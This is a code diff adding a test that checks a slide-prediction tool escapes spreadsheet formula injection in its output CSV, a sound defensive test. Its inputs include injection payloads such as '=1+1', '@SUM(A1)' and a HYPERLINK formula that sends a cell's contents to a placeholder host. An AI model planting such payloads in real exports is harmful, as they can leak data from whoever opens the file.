@@ -91,6 +91,23 @@ def test_every_file_is_accounted_for_in_csv_and_json(cohort: Path, tmp_path: Pat
     assert summary["notice"].startswith("Research use only")
 
 
+def test_no_cell_of_the_csv_is_a_formula(cohort: Path, tmp_path: Path) -> None:
+    """Patients come from the manifest; a class's name from the run's config."""
+    patients = ["=1+1", "+44 x", "@SUM(A1)", "-2+3", "-1", "O'Neil", '=HYPERLINK("http://a/?b="&A2,"x")']
+    lines = [f'q{k},absent{k}.tiff,"{name.replace(chr(34), chr(34) * 2)}"' for k, name in enumerate(patients)]
+    (tmp_path / "new.csv").write_text("\n".join(["slide_id,uri,patient_id", f"s1,{cohort}/s1.tiff,p", *lines]))
+    run = tmp_path / "run"
+    shutil.copytree(cohort / "run", run)
+    storage.write_json(str(run / "config.json"), storage.read_json(str(run / "config.json")) | {"classes": ["-", "@b"]})
+    summary = predict_manifest(str(run), str(tmp_path / "new.csv"), str(tmp_path / "out"))
+    assert [row["patient_id"] for row in summary["slides"]] == ["p", *patients]
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "out/predictions.csv").read_text())))
+    shown = ["'=1+1", "'+44 x", "'@SUM(A1)", "'-2+3", "-1", "O'Neil", "'" + patients[-1]]
+    assert [row["patient_id"] for row in rows] == ["p", *shown]
+    assert rows[0]["called"] in ("'-", "'@b")
+    assert float(rows[0]["probability"]) == summary["slides"][0]["probability"]
+
+
 def test_a_slide_without_mpp_needs_one(cohort: Path, tmp_path: Path) -> None:
     path = tmp_path / "plain.png"
     pixels = np.random.default_rng(0).normal((200, 110, 170), 25, (192, 192, 3))
